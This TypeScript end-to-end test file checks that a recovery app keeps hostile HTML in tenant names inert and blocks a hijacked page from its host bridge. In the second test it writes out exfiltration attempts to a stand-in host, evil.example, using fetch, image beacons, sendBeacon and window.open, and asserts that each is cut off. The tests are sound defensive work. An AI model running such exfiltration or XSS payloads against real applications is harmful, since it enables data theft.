import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hostileTexts, makeHostileDemo } from "../hostile-demo.ts";
import { listenForPeers } from "../listen-for-peers.ts";
import { ExplorerPage } from "../pages/explorer-page.ts";
import { RecoveryWizard } from "../pages/recovery-wizard.ts";
import { expect, test } from "../reinstate-test.ts";

test("script and HTML in the names of a tenant stay text, in the window and in a saved report", async ({ openApp }) => {
  const folder = mkdtempSync(join(tmpdir(), "reinstate-e2e-"));
  await makeHostileDemo(folder);
  const { page, complaints } = await openApp({ demo: "ask", folder });
  const explorer = new ExplorerPage(page);
  const reached = () => page.evaluate(() => (window as { reached?: string }).reached);
  page.on("dialog", () => complaints.push("a dialog was opened"));

  // The report, one change with its values side by side, and its file.
  await page.getByRole("button", { name: "What changed since snapshot 1" }).click();
  const changes = page.getByRole("grid", { name: "Changes" });
  await expect(changes.getByText(`${hostileTexts.link} policy after`).first()).toBeVisible({ timeout: 60_000 });
  await changes.getByText(`${hostileTexts.image} person`).first().click();
  await expect(explorer.change.getByRole("heading", { level: 2 })).toHaveText(`${hostileTexts.image} person`);
  await expect(explorer.change.getByText(`${hostileTexts.script} after`).first()).toBeVisible();
  await explorer.change.getByRole("tab", { name: "Side by side" }).click();
  await expect(explorer.change.locator(".monaco-diff-editor")).toContainText("onerror");
  await page.getByRole("button", { name: "Save report" }).click();
  await page.getByRole("menuitem", { name: /^HTML/u }).click();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  const report = readdirSync(folder).find((name) => name.endsWith(".html")) ?? "";
  const saved = await page.evaluate(
    (text) => {
      const { body } = new DOMParser().parseFromString(text, "text/html");
      return [body.querySelectorAll("img, script, a[href]").length, body.textContent] as const;
    },
    readFileSync(join(folder, report), "utf8"),
  );
  expect(saved).toEqual([0, expect.stringContaining(`${hostileTexts.image} person`)]);

  // The plan to put it back.
  await page.getByRole("button", { name: /^Recover \d+ /u }).click();
  const wizard = new RecoveryWizard(page);
  await wizard.isAt("Choose what to put back");
  await wizard.makePlan.click();
  await wizard.isAt("Review the plan");
  await expect(page.getByText(`${hostileTexts.link} policy`).first()).toBeVisible();
  expect(await page.locator("img[src=x], a[href^=javascript]").count()).toBe(0);
  expect(await reached()).toBeUndefined();
  expect(complaints).toEqual([]);
});

test("a page that was taken over leads nowhere: other sites, frames and windows have no bridge", async ({
  openApp,
}) => {
  const { page } = await openApp({ demo: "ask" });
  await page.getByRole("button", { name: "Start the demo" }).waitFor();
  const ask = "window.reinstate?.call('host.describe', {}).then((answer) => answer.ok, () => 'refused') ?? 'no bridge'";
  expect(await page.evaluate(ask)).toBe(true);

  // A frame of nobody's, which has our origin and none of our page.
  const framed = page.evaluate(`new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "<p>frame</p>";
    frame.onload = () => resolve(Promise.resolve(frame.contentWindow.reinstateTransport?.("host.describe", {}))
      .then((answer) => answer ?? "no bridge", () => "refused"));
    document.body.append(frame);
  })`);
  expect(await framed).toMatch(/^(?:refused|no bridge)$/u);

  // What is fetched from elsewhere, or sent there, is cut off: by the policy, and by the host.
  for (const attempt of [
    "fetch('https://evil.example/').then(() => 'sent', () => 'cut off')",
    "new Promise((r) => { const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('cut off'); i.src = 'https://evil.example/x.png'; })",
    "Promise.resolve(navigator.sendBeacon('https://evil.example/', 'x')).then(() => 'cut off')",
  ]) {
    expect(await page.evaluate(attempt)).toBe("cut off");
  }

  // Nor do connections between peers carry anything out, for which the policy has no word.
  const listener = await listenForPeers();
  expect(await page.evaluate(listener.attempt)).toBe("complete");
  expect(listener.heard()).toBe(0);
  listener.close();

  // A window that script opens is closed at once; the window itself does not go anywhere else with the bridge.
  await page.evaluate("void window.open('https://evil.example/')");
  await expect.poll(() => page.context().pages().length).toBe(1);
  await page.evaluate("void (location.href = 'https://evil.example/')").catch(() => undefined);
  await expect.poll(() => page.url()).not.toContain("app.reinstate.localhost");
  expect(await page.evaluate(ask).catch(() => "gone")).toMatch(/^(?:no bridge|refused|gone)$/u);
});
